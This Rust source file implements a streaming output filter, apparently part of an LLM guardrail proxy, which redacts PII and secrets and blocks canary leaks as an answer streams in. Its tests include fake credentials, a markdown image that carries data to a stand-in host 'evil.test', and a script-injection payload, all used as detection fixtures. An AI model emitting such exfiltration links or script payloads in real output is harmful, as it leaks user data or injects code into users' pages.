//! Filtering an answer as it streams, without buffering it.
//!
//! A [`StreamGuard`] takes the answer piece by piece (token texts) and returns what may be sent
//! now. It holds back only text that may still be part of a finding that changes or stops the
//! answer: from the earliest position where a redacting or blocking pattern may still be
//! matching ([`crate::hold`]; `4111` or `sk-` wait, `hello` does not when only cards and secrets
//! are redacted), and any finding that touches the end of the held text (it may grow), never
//! more than `stream_hold_back_bytes` except for a growing finding (bounded by
//! [`MAX_GROWING`]). When a redacting detector cannot be followed by the automaton (a derived
//! view, a whole-text detector) it holds the trailing word and entity-like groups before it.
//! Every push rescans the held text plus [`CONTEXT`] bytes already sent, so context words
//! (`born on`) and phrases split across the cut are still seen. Then it restores the request's
//! placeholders, holding a placeholder split across tokens.

use std::sync::Arc;

use crate::actions::{Pseudonymizer, RestoreBlocked, Restorer, Vault};
use crate::finding::Action;
use crate::hold::Hold;
use crate::policy::{Applied, Policy, rewrite};

/// Bytes of already-sent text rescanned with the held text.
pub const CONTEXT: usize = 64;
/// Most bytes a finding that is still growing (a PEM block) may hold back.
pub const MAX_GROWING: usize = 16 * 1024;

/// The stream must stop: a finding whose action is `block`.
#[derive(Debug, Clone, PartialEq)]
pub struct Blocked(pub Applied);

impl From<RestoreBlocked> for Blocked {
    fn from(RestoreBlocked(ty): RestoreBlocked) -> Blocked {
        Blocked(Applied::restore_blocked(ty))
    }
}

/// Incremental output filter for one stream (one choice of an OpenAI stream).
#[derive(Debug)]
pub struct StreamGuard {
    policy: Arc<Policy>,
    pending: String,
    context: String,
    restorer: Restorer,
    findings: Vec<Applied>,
    hold_back: usize,
    json_escape: bool,
    /// `context` + `pending`, rebuilt once per push when the side is active and read by both
    /// the hold-back and the scan (the buffer is reused).
    window: String,
}

impl StreamGuard {
    /// A guard applying `policy`'s output rules.
    pub fn new(policy: Arc<Policy>) -> StreamGuard {
        let hold_back = policy.settings.stream_hold_back_bytes;
        StreamGuard {
            policy,
            pending: String::new(),
            context: String::new(),
            restorer: Restorer::default(),
            findings: Vec::new(),
            hold_back,
            json_escape: false,
            window: String::new(),
        }
    }

    /// A guard for text that sits inside a JSON string (tool-call arguments): originals put
    /// back into it are JSON-escaped.
    pub fn in_json_string(policy: Arc<Policy>) -> StreamGuard {
        StreamGuard {
            json_escape: true,
            ..StreamGuard::new(policy)
        }
    }

    /// Findings applied so far (spans are relative to each scanned window; use for counts).
    pub fn findings(&self) -> &[Applied] {
        &self.findings
    }

    /// Record findings made outside the guard (a whole field of the same stream).
    pub fn note(&mut self, found: Vec<Applied>) {
        self.findings.extend(found);
    }

    /// Bytes currently held back.
    pub fn held(&self) -> usize {
        self.pending.len()
    }

    /// Feed the next piece of the answer; returns the text to send now.
    pub fn push(
        &mut self,
        piece: &str,
        vault: &mut Vault,
        pseudo: &Pseudonymizer,
    ) -> Result<String, Blocked> {
        self.pending.push_str(piece);
        self.fill_window();
        let cut = self.safe_cut();
        self.emit(cut, false, vault, pseudo)
    }

    /// End of the answer: everything held is filtered and returned.
    pub fn finish(&mut self, vault: &mut Vault, pseudo: &Pseudonymizer) -> Result<String, Blocked> {
        let cut = self.pending.len();
        self.fill_window();
        let mut out = self.emit(cut, true, vault, pseudo)?;
        out.push_str(&self.restorer.finish());
        Ok(out)
    }

    fn restore(
        &mut self,
        vault: &mut Vault,
        pseudo: &Pseudonymizer,
        text: &str,
    ) -> Result<String, Blocked> {
        let rule = self.policy.restore_rule(pseudo, self.json_escape);
        Ok(self.restorer.push_with(vault, text, &rule)?)
    }

    /// Put `context` + `pending` into `window`, when the side has anything to look for.
    fn fill_window(&mut self) {
        self.window.clear();
        if self.policy.output.is_active() {
            self.window.push_str(&self.context);
            self.window.push_str(&self.pending);
        }
    }

    /// Where the held text may be cut, before looking at findings (after [`Self::fill_window`]).
    fn safe_cut(&self) -> usize {
        let p = &self.pending;
        let lo = floor_boundary(p, p.len().saturating_sub(self.hold_back));
        let cut = match self.policy.output.hold() {
            Hold::Nothing => p.len(),
            Hold::Automaton(a) => a
                .earliest_live(&self.window, self.context.len(), lo)
                .unwrap_or(p.len()),
            Hold::TrailingWord(_) => trailing_word_cut(p, self.hold_back),
        };
        cut.max(lo)
    }

    /// Scan `window`, send what may go up to `cut` (after [`Self::fill_window`]).
    fn emit(
        &mut self,
        mut cut: usize,
        all: bool,
        vault: &mut Vault,
        pseudo: &Pseudonymizer,
    ) -> Result<String, Blocked> {
        let side = &self.policy.output;
        if !side.is_active() {
            // nothing to look for: only placeholders to restore
            let text: String = self.pending.drain(..).collect();
            return self.restore(vault, pseudo, &text);
        }
        if cut == 0 && !all {
            return Ok(String::new());
        }
        let ctx_len = self.context.len();
        let found = side.findings(&self.window);
        // blocking findings stop the stream at once, wherever they are
        if let Some(b) = found
            .iter()
            .find(|f| f.action == Action::Block && f.end > ctx_len)
        {
            let mut b = b.clone();
            b.start = b.start.saturating_sub(ctx_len);
            b.end -= ctx_len;
            self.findings.push(b.clone());
            return Err(Blocked(b));
        }
        // findings crossing the cut (or touching the end: they may grow) are held whole
        if !all {
            for f in &found {
                if f.end <= ctx_len {
                    continue;
                }
                let (s, e) = (f.start.saturating_sub(ctx_len), f.end - ctx_len);
                let growing = e == self.pending.len();
                if (s < cut && e > cut) || growing {
                    if growing && self.pending.len() - s > MAX_GROWING {
                        continue;
                    }
                    cut = cut.min(s);
                }
            }
        }
        if cut == 0 {
            return Ok(String::new());
        }
        // findings inside the emitted part, relative to it (clamped when they began in context)
        let emitted: Vec<Applied> = found
            .into_iter()
            .filter(|f| f.end > ctx_len && f.end - ctx_len <= cut)
            .map(|mut f| {
                f.start = f.start.saturating_sub(ctx_len);
                f.end -= ctx_len;
                f
            })
            .collect();
        let head = &self.pending[..cut];
        let out = if emitted.iter().any(|f| f.action.rewrites()) {
            rewrite(head, &emitted, vault, pseudo)
        } else {
            head.to_string()
        };
        self.findings.extend(emitted);
        // keep the tail of what was sent as context
        let mut ctx = std::mem::take(&mut self.context);
        ctx.push_str(head);
        let keep = floor_boundary(&ctx, ctx.len().saturating_sub(CONTEXT));
        self.context = ctx[keep..].to_string();
        self.pending.drain(..cut);
        self.restore(vault, pseudo, &out)
    }
}

/// The cut before the trailing word (it may continue) and the digit groups, short upper-case
/// groups and `@`/`+`/`:` segments before it (a card, IBAN or phone number written in groups).
fn trailing_word_cut(p: &str, hold_back: usize) -> usize {
    let mut cut = p.trim_end_matches(|c: char| !c.is_whitespace()).len();
    loop {
        let before = p[..cut].trim_end();
        let seg_start = before.trim_end_matches(|c: char| !c.is_whitespace()).len();
        let seg = &before[seg_start..];
        if seg.is_empty() || p.len() - seg_start > hold_back {
            break;
        }
        let groupish = seg.bytes().any(|b| b.is_ascii_digit())
            || (seg.len() <= 4
                && seg
                    .bytes()
                    .all(|b| b.is_ascii_uppercase() || b.is_ascii_digit()))
            || seg.ends_with([':', '=', '+', '('])
            || seg.starts_with(['+', '('])
            || seg.bytes().any(|b| b == b'@');
        if !groupish {
            break;
        }
        cut = seg_start;
    }
    cut
}

fn floor_boundary(s: &str, mut i: usize) -> usize {
    i = i.min(s.len());
    while i > 0 && !s.is_char_boundary(i) {
        i -= 1;
    }
    i
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;
    use std::path::Path;

    fn policy(yaml: &str) -> Arc<Policy> {
        Arc::new(Policy::parse(Path::new("p.yaml"), yaml).unwrap())
    }

    fn run(
        p: &Arc<Policy>,
        pieces: &[&str],
        vault: &mut Vault,
    ) -> Result<(String, Vec<String>), Blocked> {
        let ps = Pseudonymizer::new(b"k", "t");
        let mut g = StreamGuard::new(p.clone());
        let mut outs = Vec::new();
        for piece in pieces {
            outs.push(g.push(piece, vault, &ps)?);
        }
        outs.push(g.finish(vault, &ps)?);
        Ok((outs.concat(), outs))
    }

    #[test]
    fn an_email_split_across_three_tokens_is_redacted() {
        let p = policy("name: a\nversion: 1\noutput:\n  pii: redact\n");
        let (out, _) = run(
            &p,
            &["Write to jane", ".doe@exam", "ple.com today"],
            &mut Vault::default(),
        )
        .unwrap();
        assert_eq!(out, "Write to [EMAIL] today");
    }

    #[test]
    fn a_card_in_groups_is_redacted() {
        let p = policy("name: a\nversion: 1\noutput:\n  pii: redact\n");
        let (out, _) = run(
            &p,
            &["card ", "4111", " 1111", " 1111", " 1111", " ok"],
            &mut Vault::default(),
        )
        .unwrap();
        assert_eq!(out, "card [CARD] ok");
    }

    #[test]
    fn prose_is_not_held_beyond_the_last_word() {
        let p = policy("name: a\nversion: 1\noutput:\n  pii: redact\n");
        let (_, outs) = run(
            &p,
            &["The", " quick", " brown", " fox"],
            &mut Vault::default(),
        )
        .unwrap();
        assert_eq!(outs, ["", "The ", "quick ", "brown ", "fox"]);
    }

    #[test]
    fn blocking_mid_stream() {
        let p = policy("name: a\nversion: 1\noutput:\n  secrets: block\n");
        let e = run(
            &p,
            &["here: AKIA", "Q7LMZ2XABCDEFGHI", " done"],
            &mut Vault::default(),
        )
        .unwrap_err();
        assert_eq!(e.0.rule, "secrets.aws_access_key");
    }

    #[test]
    fn placeholders_are_restored_across_tokens() {
        let p = policy("name: a\nversion: 1\n");
        let mut v = Vault::default();
        v.placeholder("email", "a@b.io");
        let (out, _) = run(&p, &["mail <", "EMA", "IL_1", "> now"], &mut v).unwrap();
        assert_eq!(out, "mail a@b.io now");
    }

    /// The shipped `default` policy's output rules: PII monitored, cards, IBANs, SSNs and
    /// secrets redacted, the canary blocked.
    const SECRETS_ONLY: &str = "name: a\nversion: 1\noutput:\n  pii: monitor\n  card: redact\n  ssn: redact\n  iban: redact\n  secrets: redact\n  exfil_image: redact\n  html_injection: redact\n  canary_leak: block\nsettings:\n  canary: PCY-7f3a9c21\n";

    #[test]
    fn prose_is_sent_as_it_arrives_when_no_redacting_pattern_can_start_in_it() {
        let p = policy(SECRETS_ONLY);
        assert!(
            matches!(p.output.hold(), Hold::Automaton(_)),
            "{:?}",
            p.output.hold()
        );
        let (_, outs) = run(
            &p,
            &["The", " harbour", " market", " opens", " early"],
            &mut Vault::default(),
        )
        .unwrap();
        assert_eq!(outs, ["The", " harbour", " market", " opens", " early", ""]);
    }

    #[test]
    fn ordinary_words_are_sent_as_they_arrive_under_the_shipped_default_policy() {
        // a pattern that may start inside a word (no `\b` before its first letter) would hold
        // the last letter of every word that ends like its start: this catches one (a word that
        // is itself a prefix of a match, `java` of `javascript:`, is held by design)
        let p = Arc::new(Policy::load(Path::new("../policies/default.yaml")).unwrap());
        let text = "The harbour market opens early and the old streets fill with traders selling \
            fish bread and spices while visitors walk along the quay towards the lighthouse; \
            guides tell stories of storms, trade, data, coffee and everything else. Here is a \
            list: one, two, three. Which path should it take? The ask was reasonable.";
        let ps = Pseudonymizer::new(b"k", "t");
        let mut v = Vault::default();
        let mut g = StreamGuard::new(p.clone());
        let mut held = Vec::new();
        for (i, w) in text.split(' ').enumerate() {
            let piece = if i == 0 {
                w.to_string()
            } else {
                format!(" {w}")
            };
            let out = g.push(&piece, &mut v, &ps).unwrap();
            if out != piece {
                held.push((piece, out));
            }
        }
        assert!(held.is_empty(), "{held:?}");
    }

    #[test]
    fn the_start_of_a_secret_waits_for_the_next_piece() {
        let p = policy(SECRETS_ONLY);
        let (out, outs) = run(
            &p,
            &["key AK", "IAQ7LMZ2", "XABCDEFGHI", " done"],
            &mut Vault::default(),
        )
        .unwrap();
        assert_eq!(outs[0], "key ");
        assert!(outs.iter().all(|o| !o.contains("AK")), "{outs:?}");
        assert_eq!(out, "key [AWS_KEY] done");
        // digits wait too: they may be the start of a card
        let (_, outs) = run(&p, &["pay 4111", " 1111"], &mut Vault::default()).unwrap();
        assert_eq!(outs[0], "pay ");
    }

    #[test]
    fn a_url_password_split_across_pieces_is_redacted_and_the_scheme_is_not_held() {
        let p = policy(SECRETS_ONLY);
        let pieces = [
            "use postgres",
            "://admin",
            ":hunter",
            "2pass@db",
            ".example.com now",
        ];
        let (out, outs) = run(&p, &pieces, &mut Vault::default()).unwrap();
        assert_eq!(outs[0], "use postgres");
        assert!(outs.iter().all(|o| !o.contains("hunter")), "{outs:?}");
        let ps = Pseudonymizer::new(b"k", "t");
        let whole = p
            .output
            .evaluate(&pieces.concat(), &mut Vault::default(), &ps)
            .text
            .unwrap();
        assert_eq!(out, whole);
    }

    #[test]
    fn a_password_assignment_split_across_pieces_is_redacted() {
        let p = policy(SECRETS_ONLY);
        let pieces = ["set password", "=", "s3cr3t", "Value", " then go"];
        let (out, outs) = run(&p, &pieces, &mut Vault::default()).unwrap();
        assert_eq!(outs[0], "set password");
        assert!(outs.iter().all(|o| !o.contains("s3cr3t")), "{outs:?}");
        assert!(!out.contains("s3cr3t"), "{out}");
    }

    #[test]
    fn no_part_of_a_canary_is_sent_before_the_stream_stops() {
        let p = policy(SECRETS_ONLY);
        let ps = Pseudonymizer::new(b"k", "t");
        let mut g = StreamGuard::new(p.clone());
        let mut v = Vault::default();
        assert_eq!(g.push("the PC", &mut v, &ps).unwrap(), "the ");
        assert_eq!(g.push("Y-7f3a", &mut v, &ps).unwrap(), "");
        let e = g.push("9c21 is it", &mut v, &ps).unwrap_err();
        assert_eq!(e.0.ty, "canary_leak");
    }

    #[test]
    fn monitored_types_hold_nothing_back() {
        let p = policy("name: a\nversion: 1\noutput:\n  pii: monitor\n  secrets: monitor\n");
        assert!(matches!(p.output.hold(), Hold::Nothing));
        let (_, outs) = run(&p, &["mail jane", ".doe@exa"], &mut Vault::default()).unwrap();
        assert_eq!(outs[0], "mail jane");
    }

    #[test]
    fn a_redacting_rule_on_a_derived_view_holds_the_trailing_word() {
        let p = policy("name: a\nversion: 1\noutput:\n  injection: block\n");
        assert!(matches!(p.output.hold(), Hold::TrailingWord(_)));
        let (_, outs) = run(&p, &["The", " quick"], &mut Vault::default()).unwrap();
        assert_eq!(outs, ["", "The ", "quick"]);
    }

    #[test]
    fn every_pattern_on_the_original_text_compiles_into_the_hold_automaton() {
        // every type of every family except the derived-view ones (injection, toxicity)
        let p = policy(
            "name: a\nversion: 1\noutput:\n  pii: redact\n  secrets: redact\n  exfil_image: redact\n  exfil_link: redact\n  html_injection: redact\n  canary_leak: block\nsettings:\n  canary: PCY-7f3a9c21\n",
        );
        assert!(
            matches!(p.output.hold(), Hold::Automaton(_)),
            "{:?}",
            p.output.hold()
        );
    }

    proptest! {
        #[test]
        fn streaming_equals_whole_text_for_entities(
            prefix in "[a-z ]{0,30}",
            suffix in "[a-z ]{0,30}",
            cuts in proptest::collection::vec(0usize..120, 0..8),
            which in 0usize..9,
            secrets_only in proptest::bool::ANY,
        ) {
            let entity = [
                "jane.doe@example.com",
                "4111 1111 1111 1111",
                "DE89 3704 0044 0532 0130 00",
                "+44 20 7946 0958",
                "postgres://admin:hunter2pass@db.example.com",
                "password=s3cr3tValue9",
                "AKIAQ7LMZ2XABCDEFGHI",
                "![x](https://evil.test/a.png?q=data)",
                "<script>alert(1)</script>",
            ][which];
            let text = format!("{prefix} {entity} {suffix}");
            // compiled once: a policy (and its hold automaton) per case would be most of the time
            static POLICIES: std::sync::OnceLock<[Arc<Policy>; 2]> = std::sync::OnceLock::new();
            let [all, secrets] = POLICIES.get_or_init(|| {
                [
                    policy("name: a\nversion: 1\noutput:\n  pii: redact\n  secrets: redact\n"),
                    policy(SECRETS_ONLY),
                ]
            });
            let p = if secrets_only { secrets } else { all };
            let ps = Pseudonymizer::new(b"k", "t");
            let whole = p.output.evaluate(&text, &mut Vault::default(), &ps).text.unwrap_or(text.clone());
            let mut cuts: Vec<usize> = cuts.into_iter().filter(|c| *c < text.len()).collect();
            cuts.sort_unstable();
            cuts.dedup();
            let mut pieces = Vec::new();
            let mut last = 0;
            for c in cuts { pieces.push(&text[last..c]); last = c; }
            pieces.push(&text[last..]);
            let (streamed, _) = run(p, &pieces, &mut Vault::default()).unwrap();
            prop_assert_eq!(streamed, whole);
        }
    }
}
